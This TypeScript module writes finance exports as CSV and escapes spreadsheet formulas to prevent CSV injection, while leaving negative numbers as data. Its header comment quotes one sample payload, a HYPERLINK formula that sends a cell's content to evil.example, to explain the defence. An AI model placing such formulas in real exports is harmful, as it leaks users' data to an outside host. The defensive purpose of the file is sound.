/**
 * The CSV of the finance files (the exports and the reconciliation's report), written for the
 * spreadsheets docs/finance.md names: RFC 4180 quoting, `\n` row ends, a header row.
 *
 * Their text comes from the platform (store names, account holders, references, descriptions), and a
 * spreadsheet evaluates a cell that starts with `=`, `+`, `-`, `@`, a TAB or a CR as a formula (OWASP,
 * "CSV Injection"): `=HYPERLINK("https://evil.example/?"&A2)` as a store name would send the next
 * cell's content away when clicked. csv-stringify's own `escape_formulas` writes such a cell with a
 * `'` in front, which spreadsheets take as "text follows" (its full-width forms `＝ ＋ － ＠` too). A
 * cell that is a plain number (`-3.50`, a negative amount) is left as it is: it is no formula, and
 * spreadsheets must read it as a number. A value holding a CR or LF is quoted, so that no line
 * break inside a value starts a row of its own whose first cell would escape the check.
 */

import { stringify } from "csv-stringify/sync";

/** A plain decimal number, as the money columns write it (`-3.50`, `12`): no formula. */
const NUMBER = /^-\d+(\.\d+)?$/;

/**
 * Rows of cells as CSV for a spreadsheet, with a header row of `columns` (see the module comment).
 *
 * @param rows - one array of cells per row, in the order of `columns`.
 */
export function spreadsheetCsv(rows: readonly (readonly string[])[], columns: readonly string[]): string {
  return stringify(
    rows.map((r) => [...r]),
    {
      header: true,
      columns: [...columns],
      record_delimiter: "unix",
      quote_record_delimiter: true,
      escape_formulas: true,
      // A negative number is data, not a formula: written without the quote mark.
      cast: { string: (value) => (NUMBER.test(value) ? { value, escape_formulas: false } : value) },
    },
  );
}
